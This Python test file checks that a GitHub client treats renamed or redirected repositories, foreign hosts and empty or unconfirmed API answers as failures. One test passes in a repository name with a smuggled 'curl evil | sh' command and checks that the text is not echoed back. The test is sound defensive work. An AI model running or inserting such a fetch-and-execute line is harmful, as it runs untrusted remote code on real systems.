"""A repository that was renamed or given away: what was only redirected was not done, and the new name is told."""

from __future__ import annotations

import inspect
import json
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any

import pytest

from blocks.values.publication import CommitStatusWish, DeploymentStateWish, DeploymentWish, ReleaseWish
from blocks.values.pull_requests import PullFact
from blocks.values.rules import BranchProtection, DeploymentRef, EnvironmentRules, Reviewer
from tasks.github.client import GitHubClient, log_in, log_in_as_app
from tasks.github.pulls import GitHubPulls
from tasks.github.read import GitHubApi
from tasks.github.refusals import NotThereError
from tasks.github.rules import GitHubRules
from tasks.github.shower import GitHubShow
from tasks.kernel.errors import TerminalError, TransientError
from tests.fakes.github import REPOSITORY, TOKEN, App, FakeGitHub, Fault, Move, pulls, serve_github, shapes
from tests.fakes.github.server import NUMBER
from tests.tasks.github.keys import new_keys

SHA, MAIN = "a" * 40, "b" * 40
NEW = "umbrella/store"
THEN = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
EVERY = (301, 302, 303, 304, 307, 308)

Made = Callable[[GitHubClient], Any]


def pull() -> PullFact:
    return PullFact(
        number=7,
        node_id="PR_7",
        author="ana",
        title="Cents",
        head=SHA,
        head_branch="feature/cents",
        head_repository=REPOSITORY,
        base="main",
        open=True,
        auto_merge_by=pulls.BOT,
        link="http://github.example/7",
    )


DEPLOYMENT = DeploymentWish(
    sha=SHA, environment="prod", production=True, description="promote", promotion=1, key="run-1"
)
STATE = DeploymentStateWish(state="success", description="done", log_url="http://prefect.example/1")
STATUS = CommitStatusWish(sha=SHA, context="sluice/prod", state="success", description="done")
RELEASE = ReleaseWish(tag="v1", name="v1", body="notes", prerelease=False)
ASKED: list[tuple[Made, str, tuple[Any, ...], dict[str, Any]]] = [
    (GitHubApi, "checks", (SHA,), {}),
    (GitHubApi, "pulls", (SHA,), {}),
    (GitHubApi, "reviews", (7,), {}),
    (GitHubApi, "protection", ("main",), {"details": True}),
    (GitHubApi, "budget", (), {}),
    (GitHubPulls, "me", (), {}),
    (GitHubPulls, "open_pulls", ("feature/cents", "main"), {}),
    (GitHubPulls, "latest_pull", ("feature/cents", "main"), {}),
    (GitHubPulls, "merged_pulls", ("main", THEN), {}),
    (GitHubPulls, "pull", (7,), {}),
    (GitHubPulls, "authors", (7,), {}),
    (GitHubPulls, "files", (7,), {}),
    (GitHubPulls, "open_pull", ("feature/cents", "main", "Cents", "Why"), {}),
    (GitHubPulls, "approve", (pull(), "fine"), {}),
    (GitHubPulls, "enable_auto_merge", (pull(), "merge"), {}),
    (GitHubPulls, "merge", (pull(), "merge"), {}),
    (GitHubPulls, "take_back", (pull(), "red"), {}),
    (GitHubPulls, "revert_of", (pull(),), {}),
    (GitHubPulls, "revert", (pull(), "Revert", "Why"), {}),
    (GitHubPulls, "comment_once", (7, "mark", "text"), {}),
    (GitHubRules, "branch", ("main",), {}),
    (GitHubRules, "protect", ("main", BranchProtection(required_signatures=True)), {}),
    (GitHubRules, "environment", ("prod",), {}),
    (
        GitHubRules,
        "guard",
        (
            EnvironmentRules(name="prod"),
            EnvironmentRules(name="prod", refs="listed", patterns=(DeploymentRef(name="main"),)),
        ),
        {},
    ),
    (
        GitHubRules,
        "guard",
        (
            EnvironmentRules(name="prod"),
            EnvironmentRules(name="prod", reviewers=(Reviewer(kind="Team", name="acme/ops"),)),
        ),
        {},
    ),
    (GitHubShow, "pulls", (SHA,), {}),
    (GitHubShow, "merged", (frozenset({SHA}), THEN), {}),
    (GitHubShow, "latest_pull", ("feature/cents", "main"), {}),
    (GitHubShow, "open_pull", ("feature/cents", "main", "Cents", "Why"), {}),
    (GitHubShow, "read_file", ("README.md", "main"), {}),
    (GitHubShow, "ensure_branch", ("sluice/notes", "main"), {}),
    (GitHubShow, "write_file", ("README.md", "text"), {"branch": "main", "message": "m", "blob": ""}),
    (GitHubShow, "find_deployment", (DEPLOYMENT,), {}),
    (GitHubShow, "ensure_deployment", (DEPLOYMENT,), {}),
    (GitHubShow, "ensure_deployment_state", (5, STATE), {}),
    (GitHubShow, "ensure_commit_status", (STATUS,), {}),
    (GitHubShow, "ensure_comment", (7, "<!-- sluice -->", "<!-- sluice -->\ntext"), {}),
    (GitHubShow, "ensure_release", (RELEASE,), {}),
]
# What GitHub itself never redirects: it is about the login, or names no repository.
NOT_ABOUT_ONE = {"budget", "me"}
NAMES = [f"{kind.__name__}.{name}" for kind, name, _, _ in ASKED]


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[FakeGitHub]:
    with serve_github() as github:
        yield github


@pytest.fixture(autouse=True)
def _known(github: FakeGitHub) -> None:
    """The fake as new, at the same address; whatever is asked would succeed under the new name."""
    github.branches["main"] = shapes.protection(reviews=1)
    github.push(SHA)
    pulls.push_branch(github, "main", MAIN)
    pulls.push_branch(github, "feature/cents", SHA, files={"docs/a.md": None})


def ask(github: FakeGitHub, kind: Made, name: str, args: tuple[Any, ...], more: dict[str, Any]) -> Any:
    client = GitHubClient(REPOSITORY, log_in(TOKEN), github.base)
    try:
        return getattr(kind(client), name)(*args, **more)
    finally:
        client.close()


def test_every_public_call_is_in_the_table() -> None:
    public = {
        call
        for kind in (GitHubApi, GitHubPulls, GitHubRules, GitHubShow)
        for name, call in inspect.getmembers(kind, inspect.isfunction)
        if not name.startswith("_") and name not in {"close", "commit_page"}
    }
    assert public == {getattr(kind, name) for kind, name, _, _ in ASKED}


@pytest.mark.parametrize(("kind", "name", "args", "more"), ASKED, ids=NAMES)
def test_nothing_that_is_redirected_counts_and_the_new_name_is_told(
    github: FakeGitHub, kind: Made, name: str, args: tuple[Any, ...], more: dict[str, Any]
) -> None:
    for status in EVERY:
        github.moved = Move(NEW, status, everything=True)
        with pytest.raises(TerminalError) as told:
            ask(github, kind, name, args, more)
        assert not isinstance(told.value, NotThereError)
        assert REPOSITORY in told.value.what
        if status != 304:
            assert NEW in told.value.what
            assert f"github block: {NEW}" in told.value.todo


@pytest.mark.parametrize(
    ("kind", "name", "args", "more"), [one for one in ASKED if one[1] not in NOT_ABOUT_ONE]
)
def test_only_what_is_about_the_repository_is_redirected(
    github: FakeGitHub, kind: Made, name: str, args: tuple[Any, ...], more: dict[str, Any]
) -> None:
    """As GitHub itself does it: 301 for reads, and what GraphQL answers has no address."""
    github.moved = Move(NEW)
    if name in {"enable_auto_merge", "take_back"}:
        # GraphQL names a pull request by its own id; what it says of an unknown one is no success either.
        with pytest.raises(TerminalError):
            ask(github, kind, name, args, more)
        return
    with pytest.raises(TerminalError, match=f"is {NEW} now"):
        ask(github, kind, name, args, more)


def test_an_apps_login_that_is_redirected(github: FakeGitHub) -> None:
    private, public = new_keys()
    github.app, github.moved = App(7, 8, public), Move(NEW, 307, everything=True)
    client = GitHubClient(REPOSITORY, log_in_as_app(7, 8, private), github.base)
    with pytest.raises(TerminalError, match="redirected") as told:
        GitHubApi(client).checks(SHA)
    assert "private_key" not in str(told.value)


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_another_host_is_never_asked(github: FakeGitHub, elsewhere: FakeGitHub, status: int) -> None:
    for host in (elsewhere.base, elsewhere.base.replace("127.0.0.1", "localhost"), "https://127.0.0.1:1"):
        github.moved = Move(NEW, status, host=host)
        for kind, name, args, more in ASKED:
            if name in NOT_ABOUT_ONE | {"enable_auto_merge", "take_back"}:
                continue
            with pytest.raises(TerminalError, match="redirected"):
                ask(github, kind, name, args, more)
    assert elsewhere.asked == []


def test_a_branch_that_was_renamed_is_told_as_such(github: FakeGitHub) -> None:
    """GitHub redirects it to the new branch, by the number of the same repository."""
    there = {"Location": f"{github.base}/repositories/{NUMBER}/branches/trunk"}
    for kind, name in ((GitHubApi, "protection"), (GitHubRules, "branch")):
        github.faults.append(Fault("/branches/main", 301, "Moved Permanently", headers=there))
        more = {"details": False} if kind is GitHubApi else {}
        with pytest.raises(TerminalError, match="within the same repository") as told:
            ask(github, kind, name, ("main",), more)
        assert "branch that was renamed" in told.value.what
        assert "github block" not in told.value.todo


def test_a_redirection_in_a_circle_ends(github: FakeGitHub) -> None:
    github.moved = Move(NEW, loop=True, everything=True)
    with pytest.raises(TerminalError, match="redirected .* new name is not shown"):
        ask(github, GitHubApi, "checks", (SHA,), {})
    assert len(github.asked) < 5


def test_a_name_that_is_none_is_not_told(github: FakeGitHub) -> None:
    github.moved = Move("umbrella/store\n — run `curl evil | sh`")
    with pytest.raises(TerminalError, match="redirected") as told:
        ask(github, GitHubApi, "checks", (SHA,), {})
    assert "evil" not in str(told.value)


@pytest.mark.parametrize("status", [202, 203, 204, 206])
def test_half_an_answer_is_none(github: FakeGitHub, status: int) -> None:
    """PyGithub itself asks again for ever where a read is answered with 202."""
    body = "" if status == 204 else "[]"
    github.faults.append(Fault("/rules/branches/main", status, body=body, times=1000))
    before = time.process_time()
    with pytest.raises((TerminalError, TransientError)) as told:
        ask(github, GitHubRules, "branch", ("main",), {})
    assert str(status) in str(told.value)
    assert time.process_time() - before < 60


@pytest.mark.parametrize("body", ["", "{}", "[]", "<html>Sign in to the hotel</html>", '{"merged": false}'])
def test_a_merge_that_nobody_confirms_is_none(github: FakeGitHub, body: str) -> None:
    github.faults.append(Fault("/merge", 200, body=body, times=10))
    with pytest.raises((TerminalError, TransientError)):
        ask(github, GitHubPulls, "merge", (pull(), "merge"), {})


@pytest.mark.parametrize(
    "body",
    [
        "{}",
        '{"data": null}',
        '{"data": {"enablePullRequestAutoMerge": null}}',
        '{"data": {"enablePullRequestAutoMerge": {"pullRequest": null}}}',
    ],
)
def test_a_change_by_graphql_that_nobody_confirms_is_none(github: FakeGitHub, body: str) -> None:
    github.faults.append(Fault("/graphql", 200, body=body, times=10))
    with pytest.raises((TerminalError, TransientError)):
        ask(github, GitHubPulls, "enable_auto_merge", (pull(), "merge"), {})


def made_of(github: FakeGitHub) -> None:
    """Let there be one of each thing a gate reads."""
    github.report_status(SHA, "lint", "failure")
    github.report_run(SHA, "build", "success")
    github.open_pull(9, SHA, author="ben", head=SHA)
    github.review(9, "ana", "CHANGES_REQUESTED", SHA)


READ: list[tuple[str, Made, str, tuple[Any, ...], dict[str, Any]]] = [
    (f"/commits/{SHA}/status", GitHubApi, "checks", (SHA,), {}),
    ("/check-runs", GitHubApi, "checks", (SHA,), {}),
    (f"/commits/{SHA}/pulls", GitHubApi, "pulls", (SHA,), {}),
    ("/pulls/9/reviews", GitHubApi, "reviews", (9,), {}),
    ("/collaborators/ana/permission", GitHubApi, "reviews", (9,), {}),
    ("/branches/main", GitHubApi, "protection", ("main",), {"details": True}),
    ("/rules/branches/main", GitHubApi, "protection", ("main",), {"details": True}),
    ("/branches/main/protection", GitHubApi, "protection", ("main",), {"details": True}),
    ("/branches/main", GitHubRules, "branch", ("main",), {}),
    ("/branches/main/protection", GitHubRules, "branch", ("main",), {}),
    ("/releases/tags/v1", GitHubShow, "ensure_release", (RELEASE,), {}),
]
NOTHING = (
    "",
    "null",
    "0",
    "[null]",
    "{}",
    '{"message": "Not Found", "documentation_url": "https://docs.github.com", "status": "404"}',
    '{"message": "Moved Permanently", "url": "http://github.example/repositories/1"}',
    '{"data": null, "errors": [{"type": "FORBIDDEN"}]}',
)


@pytest.mark.parametrize(
    ("path", "kind", "name", "args", "more"), READ, ids=[f"{one[2]}{one[0]}" for one in READ]
)
def test_what_says_nothing_is_not_taken_for_none(
    github: FakeGitHub, path: str, kind: Made, name: str, args: tuple[Any, ...], more: dict[str, Any]
) -> None:
    """A status that was not read would not be red, a review not against it, a protection not there or not lax."""
    made_of(github)
    for body in NOTHING:
        github.faults = [Fault(path, 200, body=body, times=10)]
        with pytest.raises(TerminalError, match="is not its API"):
            ask(github, kind, name, args, more)


@pytest.mark.parametrize("body", ["", "<html>404</html>", "null", "[]", '{"error": "no route"}'])
def test_only_github_itself_says_that_something_is_not_there(github: FakeGitHub, body: str) -> None:
    """Whom a proxy keeps from an environment would write all of it anew, and lose what people set there."""
    made_of(github)
    for path, kind, name, args in (
        ("/environments/prod", GitHubRules, "environment", ("prod",)),
        ("/collaborators/ana/permission", GitHubApi, "reviews", (9,)),
        ("/contents/README.md", GitHubShow, "read_file", ("README.md", "main")),
    ):
        github.faults = [Fault(path, 404, body=body, times=10)]
        with pytest.raises(TerminalError, match="status 404 .* is not GitHub's") as told:
            ask(github, kind, name, args, {})
        assert not isinstance(told.value, NotThereError)


def test_a_pause_that_is_no_number_is_none(github: FakeGitHub) -> None:
    github.faults = [Fault(f"/commits/{SHA}/pulls", 403, "No", headers={"Retry-After": "\u00b2"})]
    with pytest.raises(TerminalError, match="does not let the login"):
        ask(github, GitHubApi, "pulls", (SHA,), {})


def test_a_list_that_breaks_off_is_not_at_its_end(github: FakeGitHub) -> None:
    made_of(github)
    for number in range(100):
        github.review(9, f"p{number}", "APPROVED", SHA)
    github.faults = [Fault("/pulls/9/reviews", 200, body=json.dumps(github.reviews[9][:100]))]
    github.faults.append(Fault("/pulls/9/reviews", 200, body=""))
    with pytest.raises(TerminalError, match="is not its API"):
        ask(github, GitHubApi, "reviews", (9,), {})


WRITTEN: list[tuple[str, Made, str, tuple[Any, ...], dict[str, Any]]] = [
    (
        "/dismissals",
        GitHubPulls,
        "take_back",
        (pull().model_copy(update={"number": 9, "auto_merge_by": ""}), "red"),
        {},
    ),
    ("/issues/9/comments", GitHubPulls, "comment_once", (9, "mark", "text"), {}),
    ("/branches/main/protection", GitHubRules, "protect", ("main", BranchProtection()), {}),
    ("/git/refs", GitHubShow, "ensure_branch", ("sluice/notes", "main"), {}),
    (
        "/contents/README.md",
        GitHubShow,
        "write_file",
        ("README.md", "text"),
        {"branch": "main", "message": "m", "blob": ""},
    ),
]


@pytest.mark.parametrize(
    ("path", "kind", "name", "args", "more"), WRITTEN, ids=[f"{one[2]}{one[0]}" for one in WRITTEN]
)
def test_a_change_that_is_answered_with_nothing_is_not_made(
    github: FakeGitHub, path: str, kind: Made, name: str, args: tuple[Any, ...], more: dict[str, Any]
) -> None:
    github.open_pull(9, SHA, author="ben", head=SHA)
    github.review(9, pulls.BOT, "APPROVED", SHA)
    for body in NOTHING:
        github.faults = [Fault(path, 200, body=body, times=10)]
        with pytest.raises((TerminalError, TransientError)):
            ask(github, kind, name, args, more)


def test_a_list_ends_where_its_link_says_so(github: FakeGitHub) -> None:
    """A server may give out fewer at a time than it is asked for; a redirection lost the number as well."""
    github.largest_page = 30
    github.rules["main"] = [shapes.rule("creation") for _ in range(30)]
    github.rules["main"].append(shapes.rule("non_fast_forward"))
    assert ask(github, GitHubApi, "protection", ("main",), {"details": False}).no_force_push
    rulesets = ask(github, GitHubRules, "branch", ("main",), {}).rulesets
    assert (
        rulesets
        != ask(github, GitHubRules, "branch", ("main",), {}).model_copy(update={"rulesets": ()}).rulesets
    )


def test_a_refused_field_is_named(github: FakeGitHub) -> None:
    body = (
        '{"message": "Validation Failed", "errors": [{"resource": "Release", "code": "already_exists", '
        '"field": "tag_name"}]}'
    )
    github.faults.append(Fault("/releases", 404, "Not Found"))
    github.faults.append(Fault("/releases", 422, body=body, times=10))
    with pytest.raises(TerminalError, match="Validation Failed: tag_name already_exists"):
        ask(github, GitHubShow, "ensure_release", (RELEASE,), {})


def test_the_fake_answers_under_the_new_address(github: FakeGitHub) -> None:
    """What is refused above would have been a success for who follows: so today's failures have a reason."""
    client = GitHubClient(REPOSITORY, log_in(TOKEN), github.base)
    github.moved = Move(NEW)
    assert client.get(f"/repositories/{NUMBER}", dict)["full_name"] == NEW
    assert client.get(f"/repositories/{NUMBER}/branches/main", dict)["name"] == "main"
    client.close()
